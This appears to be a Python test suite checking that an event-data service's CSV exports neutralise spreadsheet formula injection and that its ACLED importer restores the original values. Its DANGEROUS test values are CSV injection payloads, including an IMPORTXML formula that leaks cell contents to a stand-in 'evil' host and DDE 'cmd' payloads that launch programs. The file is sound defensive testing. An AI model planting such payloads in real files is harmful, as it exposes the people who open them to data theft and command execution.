"""CSV cells a spreadsheet would execute: every CSV the project writes neutralises text that
begins with = + - @ tab or carriage return (a leading apostrophe), leaves numbers alone, and the
ACLED importer gives the original values back."""

from __future__ import annotations

import csv
import io
from typing import Any

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine

from app.events import streams
from app.events.schemas import EventListQuery
from app.formats import acled
from app.formats.csvfile import FORMULA_STARTS, neutralise, restore
from app.formats.records import EventRecord
from tests.reports.test_reports import small_report

DANGEROUS = {
    "actor": '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")',
    "associate": "@SUM(1+1)*cmd|' /C calc'!A0",
    "place": "+cmd|' /C notepad'!A0",
    "outlet": "-2+3+cmd|' /C calc'!A0",
    "summary": "\t=1+1",
    "apostrophe": "'=already quoted",
}


@given(st.text())
def test_restore_gives_back_what_neutralise_wrote(value: str) -> None:
    assert restore(neutralise(value)) == value


@given(st.text(min_size=1))
def test_a_neutralised_cell_never_starts_a_formula_unless_it_is_a_number(value: str) -> None:
    cell = neutralise(value)
    if cell[0] in FORMULA_STARTS:
        assert float(cell) == float(value)


def test_numbers_and_plain_text_are_left_alone() -> None:
    for value in ("-12.5", "+3", "-0.000001", "1e-5", "Homs", "", "'quoted", "it's"):
        assert neutralise(value) == value
    assert neutralise("-12.5 km") == "'-12.5 km"


def _report() -> dict[str, Any]:
    report = small_report(
        outlet={"name": DANGEROUS["outlet"]},
        summary=DANGEROUS["summary"],
        place={
            "name": DANGEROUS["place"],
            "kind": "populated_place",
            "latitude": -12.5,
            "longitude": -38.5,
            "parent": {"name": "Brazil", "kind": "country", "country": "BR"},
        },
        actors=[
            {
                "actor": {"name": DANGEROUS["actor"], "kind": "rebel_group", "country": "BR"},
                "side": "a",
            },
            {
                "actor": {"name": DANGEROUS["associate"], "kind": "rebel_group", "country": "BR"},
                "side": "a",
                "role": "associated",
            },
            {
                "actor": {"name": DANGEROUS["apostrophe"], "kind": "civilians", "country": "BR"},
                "side": "b",
            },
        ],
    )
    return report


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_csv_neutralises_text_cells(client: TestClient) -> None:
    response = client.post("/v1/reports", json=_report())
    assert response.status_code == 201, response.text

    (row,) = _cells(client.get("/v1/events", params={"format": "csv"}).text)
    assert row["actor1"] == "'" + DANGEROUS["actor"]
    assert row["assoc_actor_1"] == "'" + DANGEROUS["associate"]
    assert row["actor2"] == "'" + DANGEROUS["apostrophe"]
    assert row["location"] == "'" + DANGEROUS["place"]
    assert row["source"] == "'" + DANGEROUS["outlet"]
    assert row["notes"] == "'" + DANGEROUS["summary"]
    # Numbers stay numbers.
    assert (row["latitude"], row["longitude"]) == ("-12.5", "-38.5")

    stats = client.get("/v1/stats/events", params={"group_by": "actor", "format": "csv"}).text
    names = {r["actor_name"] for r in _cells(stats)}
    assert "'" + DANGEROUS["actor"] in names
    assert not any(name[:1] in FORMULA_STARTS for name in names)
    for cell in (c for r in _cells(stats) for c in r.values()):
        assert not cell or cell[0] not in FORMULA_STARTS or float(cell) is not None


def test_the_acled_csv_round_trip_keeps_the_values(
    client: TestClient, engine: Engine, other_engine: Engine
) -> None:
    response = client.post("/v1/reports", json=_report())
    assert response.status_code == 201, response.text
    text = b"".join(streams.stream(engine, EventListQuery(sort="id"), "acled-csv")).decode()
    (row,) = _cells(text)
    assert row["actor1"] == "'" + DANGEROUS["actor"]
    assert row["longitude"] == "-38.5"
    records = list(acled.parse_rows(io.StringIO(text, newline="")))
    (record,) = records
    assert isinstance(record, EventRecord), record
    assert {a.name for a in record.actors} == {
        DANGEROUS["actor"],
        DANGEROUS["associate"],
        DANGEROUS["apostrophe"],
    }
    # (The importer strips the white space around a cell, as it always has.)
    assert record.summary == DANGEROUS["summary"].strip()
    assert [p.name for p in record.places][-1] == DANGEROUS["place"]
    assert [s.outlet for s in record.sources] == [DANGEROUS["outlet"]]
